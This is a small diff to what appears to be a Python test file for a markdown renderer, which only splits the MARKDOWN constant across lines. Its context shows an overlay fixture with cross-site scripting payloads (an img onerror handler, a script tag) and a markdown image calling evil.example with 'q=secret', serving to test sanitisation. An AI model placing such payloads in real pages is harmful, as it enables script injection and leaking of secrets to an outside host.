@@ -14,7 +14,10 @@ OVERLAY = (
     '<img src="https://evil.example/pixel.png" onerror="window.hacked=1"><script>window.hacked=1</script>'
     "![x](https://evil.example/?q=secret)"
 )
-MARKDOWN = "# Title\n\nSome **bold** text, `code`, \\(x^2\\) and \\[y^2\\].\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n"
+MARKDOWN = (
+    "# Title\n\nSome **bold** text, `code`, \\(x^2\\) and \\[y^2\\].\n\n```python\nprint(1)\n```\n\n"
+    "| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n"
+)
 
 
 def serious(page: Page) -> list[str]:
